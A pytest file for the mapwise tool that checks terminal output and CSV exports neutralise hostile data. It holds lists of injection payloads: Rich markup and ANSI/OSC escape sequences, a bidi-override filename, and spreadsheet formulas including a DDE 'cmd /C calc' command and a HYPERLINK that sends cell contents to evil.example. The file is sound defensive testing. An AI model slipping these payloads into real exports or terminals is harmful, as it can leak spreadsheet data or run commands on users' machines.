"""What mapwise writes from data to a person's tools (issue 26): a terminal gets text, never markup or control
sequences; a spreadsheet gets text, never a formula. Hostile values are generated; each output is checked whole."""

from __future__ import annotations

import csv
import io
import random
import re
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

from conftest import KEY, ORDERS_HEADER, dump_mapping, keyed_params, orders_mapping, write
from mapwise import columns as c
from mapwise.cli import app
from mapwise.csv_export import neutralised, write_csv
from mapwise.privacy.pseudonym import pseudonym
from mapwise.serving.audience import write_actions
from mapwise.terminal import visible

runner = CliRunner()
MARKUP = ["[/x]", "[link=http://evil.example/]innocent[/link]", "[bold red]loud[/]", "[/]", ":warning:"]
CONTROLS = ["\x1b[2J", "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07", "\x1b]0;title\x07", "a\rb", "\x9b31m",
            "\u202egnp.exe", "bell\x07", "\x08\x08erase"]
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A2)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1", "=1+1"]


def hostile(rng: random.Random) -> str:
    return rng.choice(MARKUP + CONTROLS + FORMULAS) + rng.choice(["", " tail", "x"])


def assert_terminal_safe(text: str) -> None:
    """Only newlines and tabs below 0x20, no C1 controls, no bidi overrides; markup shown, not applied."""
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text), repr(text)


# -- 7. the terminal -----------------------------------------------------------------------------


@pytest.fixture
def hostile_profiles(tmp_path, monkeypatch):
    monkeypatch.delenv("MAPWISE_HMAC_KEY", raising=False)
    keyed_params(tmp_path)
    rng = random.Random(0)
    values = [hostile(rng) for _ in range(12)]
    pl.DataFrame({c.CUSTOMER_ID: [pseudonym("196", KEY)], c.SEGMENT: [values[0]], c.COUNTRY: [values[1]],
                  c.RECENT_ITEMS: [values[2:]]}).write_parquet(tmp_path / "profiles.parquet")
    return tmp_path, values


def test_profile_show_prints_hostile_values_as_text(hostile_profiles):
    folder, values = hostile_profiles
    shown = runner.invoke(app, ["profile", "show", "196", "--profiles", str(folder / "profiles.parquet"),
                                "--params", str(folder / "params.yaml")], env={"COLUMNS": "400"})
    assert shown.exit_code == 0, shown.output
    assert_terminal_safe(shown.output)
    flat = shown.output.replace("\n", "")
    for value in values[:2]:
        assert visible(value) in flat  # markup shown as written, controls as their escapes


def test_mapping_preview_prints_hostile_titles_as_text(tmp_path):
    rng = random.Random(1)
    titles = [hostile(rng).replace('"', "'") for _ in range(8)]
    rows = [f'A{n},S{n},"{t}",1,2.5,2024-01-02 10:00:00,c{n},UK' for n, t in enumerate(titles)]
    data = write(tmp_path / "orders.csv", "\n".join([ORDERS_HEADER, *rows]) + "\n")
    mapping = dump_mapping(tmp_path / "orders.yaml", orders_mapping())
    shown = runner.invoke(app, ["mapping", "preview", str(mapping), str(data), "--rows", "8",
                                "--params", str(tmp_path / "none.yaml")], env={"COLUMNS": "200"})
    assert shown.exit_code == 0, shown.output
    assert_terminal_safe(shown.output)


def test_an_error_naming_hostile_text_is_printed_as_text(tmp_path):
    shown = runner.invoke(app, ["params", "check", str(tmp_path / "evil\x1b]0;pwned\x07.yaml")])
    assert shown.exit_code == 1 and "\\x1b" in shown.output
    assert_terminal_safe(shown.output)


# -- 2. spreadsheets -------------------------------------------------------------------------------


def cells(text: str) -> list[str]:
    return [cell for record in csv.reader(io.StringIO(text)) for cell in record]


@pytest.mark.parametrize("seed", range(3))
def test_no_csv_cell_starts_a_formula(seed):
    rng = random.Random(seed)
    frame = pl.DataFrame({"customer_id": [hostile(rng) for _ in range(60)], "item_id": [hostile(rng) for _ in range(60)],
                          "score": [rng.uniform(-1, 1) for _ in range(60)]})
    out = io.BytesIO()
    write_csv(frame, out)
    written = cells(out.getvalue().decode())
    assert not [cell for cell in written if cell[:1] in ("=", "+", "@", "\t", "\r")
                or (cell[:1] == "-" and not re.fullmatch(r"-?[0-9.e-]+", cell))]
    text_cells = frame["item_id"].to_list()
    for value, shown in zip(text_cells, neutralised(frame)["item_id"].to_list(), strict=True):
        assert shown == ("'" + value if value[:1] in "=+-@\t\r" else value)  # only a quote added, nothing lost


def test_the_next_best_action_csv_is_neutralised(tmp_path):
    actions = pl.DataFrame({c.CUSTOMER_ID: ["a", "b"], "action": ['=HYPERLINK("http://evil.example")', "mail"],
                            "expected_uplift": [0.1, 0.2]})
    write_actions(actions, tmp_path / "nba.csv")
    assert cells((tmp_path / "nba.csv").read_text())[4] == "'=HYPERLINK(\"http://evil.example\")"


def test_every_csv_mapwise_writes_goes_through_write_csv():
    """One function neutralises: no other module of the package writes CSV itself."""
    src = Path(__file__).resolve().parents[1] / "src" / "mapwise"
    writers = [str(p.relative_to(src)) for p in src.rglob("*.py")
               if p.name != "csv_export.py" and re.search(r"\.write_csv\(|csv\.writer\(", p.read_text())]
    assert writers == []
